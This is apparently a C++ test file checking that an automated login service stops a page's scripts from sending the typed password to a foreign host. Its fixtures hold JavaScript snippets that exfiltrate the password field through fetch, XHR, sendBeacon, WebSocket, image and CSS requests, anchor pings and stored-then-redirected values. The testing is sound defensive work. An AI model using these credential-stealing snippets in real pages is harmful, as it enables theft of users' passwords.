// The built service keeping a login on its site's origins whatever the page's
// own scripts do with it: every way a page can send a request elsewhere, once
// the login is in the page and until the site's page is gone; another port is
// another origin; a site's Unicode address is its punycode one.
#include <gtest/gtest.h>

#include <thread>

#include "tests/support/fault_harness.h"
#include "tests/support/fault_servers.h"

namespace veltrane::testing {
namespace {

using std::chrono::seconds;

// A login form posting user and pass to `action`, with `script` after it; the
// script reaches the form's password control as `pw` and the foreign server
// as FOREIGN.
std::string GuardedLoginPage(const std::string& action, const std::string& foreign,
                             const std::string& script, const std::string& body = "") {
  return "<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>" + body +
         "<form action='" + action +
         "' method='post'><input name='user'><input type='text' name='pass'>"
         "<input type='submit' value='Send'></form><script>const FOREIGN='" +
         foreign + "';const pw=document.forms[0].pass;" + script + "</script></body></html>";
}

constexpr const char* kLoginScript =
    "[STEP1]\nAPP-FormPos=0\nuser=$$username$$\npass=$$password$$\n"
    "[STEP2]\nAPP-SuccessString=Thank you\n";

TEST(FaultRequestGuard, NoRequestOfAPageHoldingTheLoginLeavesTheSitesOrigins) {
  FaultHarness harness;
  RecordingHttpServer foreignServer;
  const std::string foreign = "http://localhost:" + std::to_string(foreignServer.Port());
  const std::string otherPort = "http://127.0.0.1:" + std::to_string(foreignServer.Port());
  foreignServer.Serve("/", "ok");

  // Each site tries one way; its post is answered by its own thanks page.
  const std::map<std::string, std::string> vectors = {
      {"input-fetch", "pw.addEventListener('input',()=>fetch(FOREIGN+'/f?p='+pw.value));"},
      {"change-xhr",
       "pw.addEventListener('change',()=>{const x=new XMLHttpRequest();"
       "x.open('GET',FOREIGN+'/x?p='+pw.value);x.send();});"},
      {"beacon",
       "document.forms[0].addEventListener('submit',()=>"
       "navigator.sendBeacon(FOREIGN+'/b','p='+pw.value));"},
      {"keepalive",
       "document.forms[0].addEventListener('submit',()=>fetch(FOREIGN+'/k',"
       "{method:'POST',body:'p='+pw.value,keepalive:true}));"},
      {"websocket",
       "pw.addEventListener('change',()=>{try{new WebSocket(FOREIGN.replace('http','ws')+"
       "'/w?p='+pw.value);}catch(e){}});"},
      {"image", "pw.addEventListener('change',()=>{new Image().src=FOREIGN+'/i?p='+pw.value;});"},
      {"css",
       "pw.addEventListener('change',()=>{document.body.style.backgroundImage="
       "'url('+FOREIGN+'/c?p='+pw.value+')';document.body.offsetWidth;});"},
      {"ping",
       "pw.addEventListener('change',()=>{const a=document.getElementById('a');"
       "a.ping=FOREIGN+'/p?p='+pw.value;a.click();});"},
      {"stored", "pw.addEventListener('change',()=>sessionStorage.setItem('p',pw.value));"},
      {"late-timer", ""},
  };
  const std::string pingBody =
      "<iframe name='f' src='about:blank'></iframe><a id='a' href='/ping/frame' target='f'>x</a>";
  harness.server.Serve("/ping/frame", "frame");
  std::vector<std::string> sites;
  for (const auto& [site, script] : vectors) {
    const std::string root = "/" + site + "/";
    harness.server.Serve(
        root, GuardedLoginPage(root + "post", foreign, script, site == "ping" ? pingBody : ""));
    std::string thanks = "<html><body>Thank you";
    // The site's own next page sends on what the login page stored, once the
    // login has arrived; the last site's page waits for a timer after its
    // site has ended.
    if (site == "stored")
      thanks += "<script>location.href=FOREIGN_URL+'/s?p='+sessionStorage.getItem('p')</script>";
    if (site == "late-timer")
      thanks += "<script>setTimeout(()=>location.href=FOREIGN_URL+'/t',6000)</script>";
    thanks += "</body></html>";
    const std::size_t at = thanks.find("FOREIGN_URL");
    if (at != std::string::npos) thanks.replace(at, 11, "'" + foreign + "'");
    harness.server.Serve(root + "post", thanks);
    sites.push_back(site);
  }
  // A login posted to the same address on another port.
  harness.server.Serve("/other-port/", GuardedLoginPage(otherPort + "/post", foreign, ""));
  sites.push_back("other-port");
  // A site written in Unicode logs in on its punycode host.
  const std::string port = std::to_string(harness.server.Port());
  harness.server.Serve("/unicode/", GuardedLoginPage("/unicode/post", foreign, ""));
  harness.server.Serve("/unicode/post", "Thank you");
  sites.push_back("unicode");
  // The late timer's site runs last.
  std::erase(sites, "late-timer");
  sites.push_back("late-timer");

  int number = 0;
  std::map<std::string, std::string> passwords;
  for (const std::string& site : sites) {
    const std::string url = site == "unicode" ? "http://b\xC3\xBC"
                                                "cher.localhost:" +
                                                    port + "/unicode/"
                                              : harness.server.Url("/" + site + "/");
    harness.AddSite(site, url, kLoginScript);
    passwords[site] = "Gpw" + std::to_string(++number) + "q" + site.substr(0, 2);
    harness.databases.Main("INSERT INTO account (name,username,password) VALUES (" + Quoted(site) +
                           ",'editor'," + Quoted(passwords[site]) + ")");
  }
  harness.databases.Main("INSERT INTO pressrelease (name,headline) VALUES ('Guard','News')");
  harness.AddSchedule(1, "Guard", sites);

  harness.Start(5000);
  ASSERT_TRUE(harness.WaitForHistory("Guard", 1, seconds(150)));
  // The last page's timer would have fired by now.
  std::this_thread::sleep_for(seconds(7));

  std::map<std::string, std::string> expected;
  for (const std::string& site : sites) expected[site] = "Completed";
  expected["other-port"] = "Login form on another host (127.0.0.1)";
  EXPECT_EQ(expected, harness.Outcomes("Guard")) << harness.Report("Guard");
  for (const RecordedRequest& request : foreignServer.Requests())
    ADD_FAILURE() << "the foreign server got " << request.method << " " << request.path;
  for (const std::string& site : sites) {
    if (site == "other-port") continue;
    const auto posts = harness.server.RequestsTo("/" + site + "/post");
    ASSERT_EQ(1u, posts.size()) << site;
    const auto pass = posts[0].params.find("pass");
    ASSERT_NE(posts[0].params.end(), pass) << site;
    EXPECT_EQ(passwords[site], pass->second) << site;
  }
  // Each refused host once per site (WebSockets are refused untold, the
  // timer never ran), the sites' own password nowhere.
  for (const std::string site :
       {"input-fetch", "change-xhr", "beacon", "keepalive", "image", "css", "ping", "stored"})
    EXPECT_EQ(1, harness.TraceCount("Request to another host refused during login: localhost "
                                    "[site: " +
                                    site + "]"))
        << site;
  for (const auto& [site, password] : passwords)
    EXPECT_EQ(std::string::npos, harness.Trace().find(password)) << site;
  EXPECT_TRUE(harness.KillLeavesNothing());
}

}  // namespace
}  // namespace veltrane::testing
